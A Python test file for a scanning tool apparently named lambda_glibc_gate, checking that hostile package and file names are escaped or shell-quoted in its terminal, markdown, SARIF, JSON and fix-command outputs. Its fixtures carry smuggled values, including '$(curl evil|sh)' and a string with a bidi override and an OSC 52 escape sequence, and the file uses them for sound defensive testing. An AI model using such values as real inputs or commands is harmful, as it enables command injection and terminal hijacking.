"""Untrusted text in every sink: one owner (text.py) makes member and package names safe for the
terminal, annotations, the job summary, SARIF and the commands a fix prints."""

from __future__ import annotations

import json
import shlex
from datetime import date

from helpers import REGULAR, elf_fixture

from lambda_glibc_gate import text
from lambda_glibc_gate.render import sarif
from lambda_glibc_gate.render.markdown import render_summary
from lambda_glibc_gate.render.text import render as render_text
from lambda_glibc_gate.scan import ScanOptions, scan

HOSTILE = "\u202eos.\x1b]52;c;ZWNobyBoaQ==\x07\x9b31m"  # bidi override, OSC 52, a C1 CSI


def test_escape_makes_every_invisible_or_reordering_character_visible():
    for char in ("\x1b", "\x9b", "\u202e", "\u2066", "\u200b", "\u2028", "\x7f", "\udc80"):
        shown = text.escape(f"a{char}b")
        assert shown.isprintable() and shown.isascii(), repr(shown)
    assert text.escape("plain/path-1.0.so") == "plain/path-1.0.so"
    assert text.block("line one\n\tline\u202etwo") == "line one\n\tline\\u202etwo"


def test_a_shell_word_stays_a_word():
    for value in ("$(curl x|sh)", "a b", "`id`", "ok-name", "@scope/pkg"):
        assert shlex.split(text.shell_word(value)) == [value]


def hostile_report(make_zip):
    # GIVEN a package whose member and package names carry control, bidi and OSC 52 sequences
    members = {
        f"node_modules/evil{HOSTILE}/package.json": (
            json.dumps({"name": f"$(curl evil|sh){HOSTILE}"[:60], "os": ["darwin"]}).encode(),
            REGULAR,
        ),
        f"node_modules/evil{HOSTILE}/prebuilds/linux-x64/addon.musl.node": elf_fixture(
            "napi_addon-linux-x64-musl.node"
        ),
        f"lib/www.evil{HOSTILE}_x.so": elf_fixture("strlcpy_strtol-glibc2.38-x86_64"),
    }
    return scan([make_zip(members)], ScanOptions(runtime="nodejs22.x", today=date(2026, 11, 27)))


def test_no_sink_carries_a_raw_control_or_bidi_character(make_zip):
    report = hostile_report(make_zip)
    outputs = {
        "text": render_text(report, show_notes=True),
        "markdown": render_summary(report),
        "sarif": json.dumps(json.loads(sarif.render(report)), ensure_ascii=False),
        "json": report.dumps(),
    }
    for sink, output in outputs.items():
        for char in ("\x1b", "\x07", "\x9b", "\u202e"):
            assert char not in output, (sink, repr(char))


def test_no_gfm_autolink_survives_in_the_summary(make_zip):
    summary = render_summary(hostile_report(make_zip))
    assert "www.evil" not in summary  # broken with a zero-width space, escaped `_` or not


def test_a_package_name_in_a_fix_command_is_quoted(make_zip):
    report = hostile_report(make_zip)
    codes = [fix.code for f in report.all_findings() for fix in f.fixes if "npm install" in fix.code]
    for code in codes:
        assert "$(curl" not in code or "'$(curl" in code
